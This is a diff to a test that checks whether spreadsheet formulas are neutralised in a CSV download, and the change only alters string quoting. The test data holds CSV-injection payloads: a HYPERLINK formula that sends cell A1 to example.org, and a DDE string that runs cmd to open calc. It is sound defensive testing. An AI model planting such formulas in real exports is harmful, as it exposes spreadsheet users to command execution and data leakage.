@@ -243,7 +243,7 @@ describe('hostile writes', () => {
   });
 
   it('neutralises spreadsheet formulas in the CSV download, keeping negative numbers numeric', async () => {
-    const formulas = ['=HYPERLINK("https://example.org/?"&A1;"klik")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1'];
+    const formulas = ['=HYPERLINK("https://example.org/?"&A1;"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1'];
     const csv = EXAMPLE_CSV.replaceAll('Huisartsen,', `"${formulas[0]!.replace(/"/g, '""')}",`)
       .replaceAll('Sociaal werkers,', `"${formulas[1]}",`)
       .replaceAll('Fysiotherapeuten,', `"${formulas[2]}",`);
